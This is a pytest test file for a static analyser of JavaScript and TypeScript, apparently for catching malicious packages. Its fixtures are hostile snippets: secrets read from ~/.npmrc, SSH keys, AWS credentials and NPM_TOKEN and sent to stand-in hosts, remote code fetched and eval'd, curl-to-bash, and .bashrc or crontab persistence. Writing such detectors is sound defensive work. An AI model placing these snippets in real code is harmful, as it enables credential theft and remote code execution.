"""What code can do: each kind of fact, however the call is written."""

import pytest

from lazaretto.core.facts import Kind, Moment
from lazaretto.core.language import NoUnits
from lazaretto.languages import javascript
from tests.languages.javascript_reading import flows, moments, only, read, values


@pytest.mark.parametrize(
    ("path", "data", "dialect", "rank"),
    [
        ("a/b.js", b"", "javascript", 50),
        ("a/b.mjs", b"", "javascript", 50),
        ("a.d.ts", b"", "declaration", 60),
        ("a.tsx", b"", "tsx", 50),
        ("bin/tool", b"#!/usr/bin/env node\n", "javascript", 90),
        ("bin/tool.ts", b"#!/usr/bin/env -S node\n", "typescript", 90),
    ],
)
def test_claims_by_name_and_shebang(path: str, data: bytes, dialect: str, rank: int) -> None:
    """Extensions and a first line that names Node are ours."""
    claim = javascript.claim(path, data)

    assert claim is not None
    assert (claim.dialect, claim.rank) == (dialect, rank)


def test_claims_nothing_else() -> None:
    """A Python script, a folder called x.js or a file without extension is not."""
    assert javascript.claim("setup.py", b"#!/usr/bin/env python3\n") is None
    assert javascript.claim("lib.js/README", b"") is None


@pytest.mark.parametrize(
    "call",
    [
        "require('child_process').exec('id -u')",
        "require('node:child_process')['exec']('id -u')",
        "const {exec: e} = require('child_process'); e('id -u')",
        "const cp = require('child_process'); const f = cp.exec; f('id -u')",
        "import * as cp from 'child_process'; cp.exec('id -u')",
        "import {exec as run} from 'node:child_process'; run('id -u')",
        "import cp from 'child_process'; cp.exec('id -u')",
        "const cp = __importStar(require('child_process')); (0, cp.exec)('id -u')",
        "const {promisify} = require('util'); promisify(require('child_process').exec)('id -u')",
        "process.mainModule.require('child_process').execSync('id -u')",
        "Reflect.apply(require('child_process').exec, null, ['id -u'])",
        "require('child_process').exec.call(null, 'id -u')",
        "const r = require; const m = 'child_' + 'process'; r(m)[['e','xec'].join('')]('id ' + '-u')",
        "require('child_process').spawn('id', ['-u'])",
        "import('child_process').then(m => m.exec('id -u'))",
        "const cp = await import('child_process'); cp.exec('id -u')",
        "const run = c => require('child_process').exec(c); run('id -u')",
        "class A { constructor(c) { this.c = c } go() { require('child_process').exec(this.c) } } new A('id -u').go()",
        "eval(\"require('child_process').exec('id -u')\")",
        "import {createRequire} from 'module'; createRequire(import.meta.url)('child_process').exec('id -u')",
        "switch (1) { case 1: require('child_process').exec('id -u') }",
        "const o = {go: require('child_process').exec}; for (const k in o) o[k]('id -u')",
    ],
)
def test_one_command_many_spellings(call: str) -> None:
    """A started process is one fact with its whole command line, however the call is written."""
    facts = read(call)

    assert values(facts, Kind.PROCESS_SPAWN) == ["id -u"]
    assert moments(facts, Kind.PROCESS_SPAWN) == {Moment.LOAD}
    assert "child_process" in {value.removeprefix("node:") for value in values(facts, Kind.IMPORT) if value}
    assert facts.complete


@pytest.mark.parametrize(
    "code",
    [
        "eval(x)",
        "(0, eval)(x)",
        "globalThis['ev' + 'al'](x)",
        "new Function('a', x)()",
        "[].constructor.constructor(x)()",
        "(() => {}).constructor(x)()",
        "require('vm').runInThisContext(x)",
        "new (require('vm').Script)(x)",
        "module._compile(x, 'a.js')",
        "const {Module} = require('module'); new Module('a')._compile(x, 'a.js')",
        "setTimeout('run()', 5)",
        "process.getBuiltinModule('vm').runInNewContext(x)",
    ],
)
def test_code_from_text(code: str) -> None:
    """Everything that turns text into running code is one kind of fact."""
    assert len(values(read(code), Kind.CODE_EVAL)) == 1


@pytest.mark.parametrize(
    ("code", "kind", "value"),
    [
        ("fetch('https://a.invalid/x')", Kind.NET_CONNECT, "https://a.invalid/x"),
        ("require('https').get({hostname: 'a.invalid', path: '/x'})", Kind.NET_CONNECT, "a.invalid/x"),
        ("const x = new XMLHttpRequest(); x.open('GET', '//a.invalid')", Kind.NET_CONNECT, "//a.invalid"),
        ("new WebSocket('wss://a.invalid')", Kind.NET_CONNECT, "wss://a.invalid"),
        (
            "const p = require('phin').promisified; p({'url': 'https://a.invalid'})",
            Kind.NET_CONNECT,
            "https://a.invalid",
        ),
        ("require('nodemailer').createTransport({}).sendMail({to: 'a'})", Kind.NET_CONNECT, None),
        ("navigator.sendBeacon('https://a.invalid', d)", Kind.NET_CONNECT, "https://a.invalid"),
        ("require('net').connect(4444, '192.0.2.7')", Kind.NET_CONNECT, "192.0.2.7:4444"),
        (
            "import axios from 'axios'; axios.create({}).post('https://a.invalid')",
            Kind.NET_CONNECT,
            "https://a.invalid",
        ),
        ("require('http').createServer(h).listen(8080)", Kind.NET_LISTEN, "8080"),
        ("require('dns').resolveTxt('t.invalid', c)", Kind.DNS_QUERY, "t.invalid"),
        ("require('fs').promises.readFile('/nonexistent/a')", Kind.FS_READ, "/nonexistent/a"),
        ("import {writeFile} from 'fs/promises'; await writeFile('/tmp/a', d)", Kind.FS_WRITE, "/tmp/a"),
        ("require('fs-extra').outputFileSync('/tmp/a', d)", Kind.FS_WRITE, "/tmp/a"),
        ("require('fs').chmodSync('/tmp/a', 0o755)", Kind.FS_WRITE, "/tmp/a"),
        ("require('fs').rmSync('/nonexistent/a')", Kind.FS_DELETE, "/nonexistent/a"),
        ("require('fs').unlinkSync(__filename)", Kind.FS_SELF_DELETE, "__filename"),
        ("require('fs').unlinkSync(process.argv[1])", Kind.FS_SELF_DELETE, "__filename"),
        (
            "const p = require('path'), d = __dirname; require('fs').renameSync(d + '/a', p.join(d, 'package.json'))",
            Kind.FS_SELF_DELETE,
            "__dirname/package.json",
        ),
        ("const {CI} = process.env", Kind.ENV_READ, "CI"),
        ("process['env']['C' + 'I']", Kind.ENV_READ, "CI"),
        ("process.env.NPM_TOKEN", Kind.SECRET_READ, "NPM_TOKEN"),
        ("require('fs').readFileSync(require('os').homedir() + '/.npmrc')", Kind.SECRET_READ, "~/.npmrc"),
        (
            "require('fs').readFileSync(require('path').join(process.env.HOME, '.ssh', 'id_rsa'))",
            Kind.SECRET_READ,
            "~/.ssh/id_rsa",
        ),
        (
            "fetch('http://169.254.169.254/latest/meta-data/')",
            Kind.SECRET_READ,
            "http://169.254.169.254/latest/meta-data/",
        ),
        ("require('keytar').findCredentials('x')", Kind.SECRET_READ, "keychain:x"),
        ("require('child_process').exec('cat ~/.aws/credentials')", Kind.SECRET_READ, "~/.aws/credentials"),
        ("window.ethereum.request({method: 'eth_sendTransaction'})", Kind.WALLET_TOUCH, "eth_sendTransaction"),
        ("window.fetch = hook", Kind.BROWSER_HOOK, "fetch"),
        ("XMLHttpRequest.prototype.open = function () {}", Kind.BROWSER_HOOK, "XMLHttpRequest.prototype.open"),
        ("const M = require('module'); M.prototype.require = f", Kind.MODULE_HOOK, "module.prototype.require"),
        ("require('module')._load = f", Kind.MODULE_HOOK, "module._load"),
        ("require.cache[x] = {exports: y}", Kind.MODULE_HOOK, "require.cache.*"),
        ("const http = require('http'); http.request = f", Kind.MODULE_HOOK, "http.request"),
        ("require('fs').appendFileSync(process.env.HOME + '/.bashrc', x)", Kind.PERSIST, "~/.bashrc"),
        ("require('child_process').execSync('crontab /tmp/x')", Kind.PERSIST, "crontab"),
        (
            "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash')",
            Kind.RUNTIME_FETCH,
            "bun",
        ),
        ("require('crypto').createDecipheriv('aes-256-cbc', k, iv)", Kind.DECRYPT, "aes-256-cbc"),
        ("new Worker('./w.js')", Kind.IMPORT, "./w.js"),
        ("require('child_process').fork('./w.js')", Kind.IMPORT, "./w.js"),
        ("require('child_process').spawn(process.execPath, ['./w.js'])", Kind.IMPORT, "./w.js"),
        ("export * from './a.js'", Kind.IMPORT, "./a.js"),
        ("require(process.argv[9])", Kind.IMPORT, ""),
    ],
)
def test_kinds_and_values(code: str, kind: Kind, value: str) -> None:
    """Each capability is seen, with the value that would be used."""
    assert value in values(read(code), kind)


def test_environment_for_a_child_is_not_dumped() -> None:
    """Handing the environment on to a child process is what everybody does."""
    facts = read(
        """const c = require('child_process');
        c.spawn('x', {env: {...process.env, A: 1}}); c.exec('y', {env: process.env})"""
    )

    assert values(facts, Kind.ENV_DUMP) == []


@pytest.mark.parametrize(
    "code",
    [
        "JSON.stringify(process.env)",
        "Object.entries(process.env)",
        "x = {...process.env}",
        "for (const k in process.env) f(k)",
    ],
)
def test_environment_as_a_whole_is_dumped(code: str) -> None:
    """Taking every variable at once is a fact of its own."""
    assert len(values(read(code), Kind.ENV_DUMP)) == 1


@pytest.mark.parametrize(
    ("code", "moment"),
    [
        ("F", Moment.LOAD),
        ("(function () { F })()", Moment.LOAD),
        ("!function () { F }()", Moment.LOAD),
        ("(async () => { F })().catch(() => {})", Moment.LOAD),
        ("setTimeout(() => { F }, 100)", Moment.LOAD),
        ("process.nextTick(function () { F })", Moment.LOAD),
        ("Promise.resolve().then(() => { F })", Moment.LOAD),
        ("new Promise(() => { F })", Moment.LOAD),
        ("[1].forEach(() => { F })", Moment.LOAD),
        ("process.on('exit', () => { F })", Moment.LOAD),
        ("function a() { F } function b() { a() } b()", Moment.LOAD),
        ("const o = { go() { F } }; o.go()", Moment.LOAD),
        ("class A { static x = (() => { F })() }", Moment.LOAD),
        ("class A { constructor() { F } } new A()", Moment.LOAD),
        ("(function (g, f) { f() })(this, function () { F })", Moment.LOAD),
        ("try { if (x) { F } } finally {}", Moment.LOAD),
        ("function a() { F } module.exports = a", Moment.CALL),
        ("exports.a = () => { F }", Moment.CALL),
        ("export default async function () { F }", Moment.CALL),
        ("class A { go() { F } } module.exports = A", Moment.CALL),
        ("app.get('/', (req, res) => { F })", Moment.CALL),
        ("require('http').createServer(() => { F })", Moment.CALL),
    ],
)
def test_moments(code: str, moment: Moment) -> None:
    """A place runs at load if load-time code reaches it, and on call otherwise; either way it is seen."""
    fact = only(read(code.replace("F", "require('fs').unlinkSync('/nonexistent/x')")), Kind.FS_DELETE)

    assert fact.moment is moment


@pytest.mark.parametrize(
    ("code", "pair"),
    [
        (
            """const t = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8');
            fetch('https://c.invalid', {body: JSON.stringify({a: [Buffer.from(t).toString('base64')]})})""",
            (Kind.SECRET_READ, Kind.NET_CONNECT),
        ),
        (
            """require('fs').readFile('/root/.ssh/id_rsa', (e, d) => {
            const r = require('http').request('http://c.invalid'); r.write(d) })""",
            (Kind.SECRET_READ, Kind.NET_CONNECT),
        ),
        (
            "const e = JSON.stringify(process.env); require('https').request('https://c.invalid', r).end(e)",
            (Kind.ENV_DUMP, Kind.NET_CONNECT),
        ),
        ("fetch('https://c.invalid', {body: process.env})", (Kind.ENV_DUMP, Kind.NET_CONNECT)),
        (
            "require('dns').lookup(`${Buffer.from(process.env.NPM_TOKEN).toString('hex')}.c.invalid`, f)",
            (Kind.SECRET_READ, Kind.DNS_QUERY),
        ),
        ("fetch('https://c.invalid').then(r => r.text()).then(t => eval(t))", (Kind.NET_CONNECT, Kind.CODE_EVAL)),
        (
            "(async () => { const r = await fetch('https://c.invalid'); eval(await r.text()) })()",
            (Kind.NET_CONNECT, Kind.CODE_EVAL),
        ),
        (
            """require('https').get('https://c.invalid', r => {
            let b = ''; r.on('data', d => b += d); r.on('end', () => new Function(b)()) })""",
            (Kind.NET_CONNECT, Kind.CODE_EVAL),
        ),
        (
            "require('https').get('https://c.invalid', r => r.pipe(require('fs').createWriteStream('/tmp/x')))",
            (Kind.NET_CONNECT, Kind.FS_WRITE),
        ),
        (
            "const p = '/tmp/.x'; require('fs').writeFileSync(p, d); require('child_process').exec('sh ' + p)",
            (Kind.FS_WRITE, Kind.PROCESS_SPAWN),
        ),
        ("eval(atob('YWxlcnQoMSk7'))", (Kind.DECODE, Kind.CODE_EVAL)),
        (
            """const d = require('crypto').createDecipheriv('aes-256-cbc', k, i);
            eval(d.update(x, 'hex', 'utf8') + d.final('utf8'))""",
            (Kind.DECRYPT, Kind.CODE_EVAL),
        ),
        (
            "const t = process.env.GH_TOKEN; require('child_process').exec('curl -d ' + t + ' https://c.invalid')",
            (Kind.SECRET_READ, Kind.PROCESS_SPAWN),
        ),
    ],
)
def test_flows(code: str, pair: tuple[Kind, Kind]) -> None:
    """Values are followed from where they come from to where they go."""
    assert pair in flows(read(code))


@pytest.mark.parametrize("client", ["new (require('ssh2').Client)()", "require('tls')"])
@pytest.mark.parametrize(("option", "leaves"), [("privateKey", False), ("key", False), ("data", True), ("host", True)])
def test_a_key_that_signs_is_kept(client: str, option: str, leaves: bool) -> None:
    """TLS and SSH show whose key it is without sending it; any other option may be sent."""
    code = (
        "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"
        f"exports.go = () => {{ const c = {client}; c.connect({{ port: 22, {option}: key }}); }};\n"
    )

    facts = read(code)
    assert values(facts, Kind.NET_CONNECT)
    assert ((Kind.SECRET_READ, Kind.NET_CONNECT) in flows(facts)) is leaves


def test_flow_by_scope_only() -> None:
    """Where no value can be followed, standing in one function is said to be just that."""
    code = "function f() { const t = process.env.NPM_TOKEN; magic(t); fetch(address()) }"

    assert flows(read(code)) == set()
    assert (Kind.SECRET_READ, Kind.NET_CONNECT) in flows(read(code), "scope")


def test_unknown_branches_give_every_value() -> None:
    """Where a condition is not known all that may be used is reported."""
    facts = read("let c; if (x) c = 'id -u'; else c = 'id -g'; require('child_process').exec(c)")

    assert sorted(value or "" for value in values(facts, Kind.PROCESS_SPAWN)) == ["id -g", "id -u"]


@pytest.mark.parametrize(
    "code",
    [
        "if (false) { F }",
        "return; F",
        "while (true) {} F",
        "const f = () => 1; throw f(); F",
        "false && F",
        "for (let i = 0; i < 1e9; i++) {} F",
    ],
)
def test_dead_code_hides_nothing(code: str) -> None:
    """What seems never to run is read all the same."""
    assert values(read(code.replace("F", "require('child_process').exec('id')")), Kind.PROCESS_SPAWN) == ["id"]


def test_literals_of_code_only() -> None:
    """Strings are literals of the file, comments are not; each counts once."""
    facts = read(
        "// https://comment.invalid/\nconst a = 'https://code.invalid/p', b = 'https://code.invalid/p';"
        "const c = '203.0.113.9', d = 'x@mail.invalid'"
    )

    assert values(facts, Kind.LITERAL_URL) == ["https://code.invalid/p"]
    assert values(facts, Kind.LITERAL_DOMAIN) == ["code.invalid"]
    assert values(facts, Kind.LITERAL_IP) == ["203.0.113.9"]
    assert values(facts, Kind.LITERAL_EMAIL) == ["x@mail.invalid"]


def test_typescript_and_jsx() -> None:
    """Types and elements change nothing about what is called."""
    typed = (
        "import { exec } from 'child_process';\nconst c = 'id' as string;\n"
        "exec(c!, (e: Error | null): void => {});\nenum E { A }"
    )
    element = "const v = <A onClick={() => fetch('https://a.invalid')}>{x}</A>"

    assert values(read(typed, "typescript"), Kind.PROCESS_SPAWN) == ["id"]
    assert values(read(element, "tsx"), Kind.NET_CONNECT) == ["https://a.invalid"]


def test_syntax_error_is_a_problem() -> None:
    """A file that does not parse is incomplete, and what was understood stands."""
    facts = read("require('child_process').exec('id');\nlet = = ;\n")

    assert not facts.complete
    assert facts.problems[0].line == 2
    assert values(facts, Kind.PROCESS_SPAWN) == ["id"]


@pytest.mark.parametrize(
    ("code", "dialect"),
    [
        ("const a = String.raw`\\uc1 \\xq`; eval(a)", "javascript"),
        ("import defer * as a from './a.js';\neval(a)", "javascript"),
        ("export type * from './a';\neval(a)", "typescript"),
        ("class A {\n  static accessor x = 1;\n}\neval(a)", "typescript"),
    ],
)
def test_gaps_of_the_grammar_are_no_problems(code: str, dialect: str) -> None:
    """What runs, although the grammar does not know it, leaves the file complete, and what follows is read."""
    facts = read(code, dialect)

    assert facts.complete
    assert len(values(facts, Kind.CODE_EVAL)) == 1


def test_shebang_parses() -> None:
    """A script's first line is no error."""
    assert read("#!/usr/bin/env node\nrequire('fs')").complete


def test_spans_are_bytes() -> None:
    """Lines count from one, columns and offsets are in bytes."""
    text = "/* ü */\n'é'; eval('1+1')"
    fact = only(read(text), Kind.CODE_EVAL)

    assert fact.span.line == 2
    assert text.encode()[fact.span.start : fact.span.end] == b"eval('1+1')"
    assert fact.span.column == len("'é'; ".encode())


def test_a_package_with_the_name_of_a_protocol_is_no_address() -> None:
    """What begins with ``https`` is an address only where the scheme ends in a colon."""
    kinds = {fact.kind for fact in read("require('https-proxy-agent'); import('http-errors')").facts}

    assert kinds.isdisjoint({Kind.NET_CONNECT, Kind.CODE_EVAL})
    assert Kind.NET_CONNECT in {fact.kind for fact in read("import('https://cdn.invalid/x.mjs')").facts}


@pytest.mark.parametrize("error", [MemoryError, SystemError])
def test_a_lack_of_room_is_no_property_of_a_file(error: type[Exception], monkeypatch: pytest.MonkeyPatch) -> None:
    """It is raised: another process may have the room. Any other failure is a problem of the file."""

    def fails(*_: object) -> None:
        raise error

    monkeypatch.setattr("lazaretto.languages.javascript.reader.run", fails)
    with pytest.raises(error):
        javascript.read("javascript", b"require('a')", NoUnits())
